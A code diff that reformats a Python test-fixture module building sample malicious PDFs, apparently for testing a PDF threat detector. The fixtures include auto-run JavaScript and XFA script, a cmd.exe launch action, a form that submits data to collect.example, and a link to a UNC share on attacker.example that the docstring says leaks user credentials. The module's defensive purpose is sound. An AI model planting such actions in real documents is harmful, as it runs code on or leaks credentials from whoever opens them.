@@ -46,8 +46,11 @@ def named_javascript(style: str) -> bytes:
 
 COMMENT_WRAPPED = {
     f"{name}-{style}": (make, style)
-    for name, make in (("open-action-javascript", open_action_javascript), ("launch-cmd-exe", launch_cmd),
-                       ("named-javascript", named_javascript))
+    for name, make in (
+        ("open-action-javascript", open_action_javascript),
+        ("launch-cmd-exe", launch_cmd),
+        ("named-javascript", named_javascript),
+    )
     for style in ("paren", "stream")
 }
 
@@ -63,11 +66,15 @@ def xfa_pdf(template: bytes, split_at: int | None = None) -> bytes:
     return pdf.build()
 
 
-XFA_SCRIPT = (b'<template xmlns="http://www.xfa.org/schema/xfa-template/3.3/"><subform name="form1">'
-              b'<field name="a"><event activity="initialize"><script contentType="application/x-javascript">'
-              b"app.alert(1);</script></event></field></subform></template>")
-XFA_PLAIN = (b'<template xmlns="http://www.xfa.org/schema/xfa-template/3.3/"><subform name="form1">'
-             b'<field name="a"><caption><value><text>Nom</text></value></caption></field></subform></template>')
+XFA_SCRIPT = (
+    b'<template xmlns="http://www.xfa.org/schema/xfa-template/3.3/"><subform name="form1">'
+    b'<field name="a"><event activity="initialize"><script contentType="application/x-javascript">'
+    b"app.alert(1);</script></event></field></subform></template>"
+)
+XFA_PLAIN = (
+    b'<template xmlns="http://www.xfa.org/schema/xfa-template/3.3/"><subform name="form1">'
+    b'<field name="a"><caption><value><text>Nom</text></value></caption></field></subform></template>'
+)
 
 
 def xfa_with_script() -> bytes:
@@ -88,16 +95,20 @@ def xfa_without_script() -> bytes:
 def gotor_unc() -> bytes:
     """A link that opens a document on a UNC path (leaks the user's credentials to that host)."""
     pdf = one_page(page_extra=b"/Annots [5 0 R] ")
-    pdf.add(b"<< /Type /Annot /Subtype /Link /Rect [0 0 595 842] /Border [0 0 0] "
-            b"/A << /S /GoToR /F (\\\\\\\\attacker.example\\\\share\\\\x.pdf) /D [0 /Fit] >> >>")
+    pdf.add(
+        b"<< /Type /Annot /Subtype /Link /Rect [0 0 595 842] /Border [0 0 0] "
+        b"/A << /S /GoToR /F (\\\\\\\\attacker.example\\\\share\\\\x.pdf) /D [0 /Fit] >> >>"
+    )
     return pdf.build()
 
 
 def submit_form() -> bytes:
     """A form field that sends the form's data to a web address when clicked."""
     pdf = one_page(b"/AcroForm << /Fields [5 0 R] >> ", page_extra=b"/Annots [5 0 R] ")
-    pdf.add(b"<< /Type /Annot /Subtype /Widget /FT /Btn /Ff 65536 /T (send) /Rect [10 10 100 40] /P 3 0 R "
-            b"/A << /S /SubmitForm /F << /FS /URL /F (https://collect.example/form) >> /Flags 4 >> >>")
+    pdf.add(
+        b"<< /Type /Annot /Subtype /Widget /FT /Btn /Ff 65536 /T (send) /Rect [10 10 100 40] /P 3 0 R "
+        b"/A << /S /SubmitForm /F << /FS /URL /F (https://collect.example/form) >> /Flags 4 >> >>"
+    )
     return pdf.build()
 
 
@@ -114,8 +125,9 @@ def goto_embedded() -> bytes:
 def javascript_mentioned_in_text() -> bytes:
     """A harmless document whose strings talk about /JavaScript, /Launch and 100% (a percent sign)."""
     pdf = one_page(page_extra=b"/Resources << /Font << /F1 5 0 R >> >> ")
-    pdf.objects[3] = stream(b"BT /F1 12 Tf 72 720 Td (Never use /JavaScript or /Launch: 100% \\(sure\\)) Tj ET",
-                            compress=True)
+    pdf.objects[3] = stream(
+        b"BT /F1 12 Tf 72 720 Td (Never use /JavaScript or /Launch: 100% \\(sure\\)) Tj ET", compress=True
+    )
     pdf.add(b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>")
     pdf.trailer_extra = b"/Info 6 0 R "
     pdf.add(b"<< /Title (About /JavaScript: 100% (not a comment) and /Launch) /Subject <2f4a617661536372697074> >>")
@@ -149,9 +161,9 @@ def action_inside_another_stream() -> bytes:
     body = bytes(built[:xref_at]) + script
     rows = tail.split(b"\n")
     count = int(rows[1].split()[1])
-    entries = rows[2:2 + count]
+    entries = rows[2 : 2 + count]
     entries += [b"%010d 00000 n " % at, b"%010d 00000 n " % (xref_at)]
-    trailer = b"\n".join(rows[2 + count:]).replace(b"/Size %d" % count, b"/Size %d" % (count + 2))
+    trailer = b"\n".join(rows[2 + count :]).replace(b"/Size %d" % count, b"/Size %d" % (count + 2))
     new_xref_at = len(body)
     trailer = trailer.rsplit(b"startxref", 1)[0] + b"startxref\n%d\n%%%%EOF\n" % new_xref_at
     return body + b"xref\n0 %d\n" % (count + 2) + b"\n".join(entries) + b"\n" + trailer
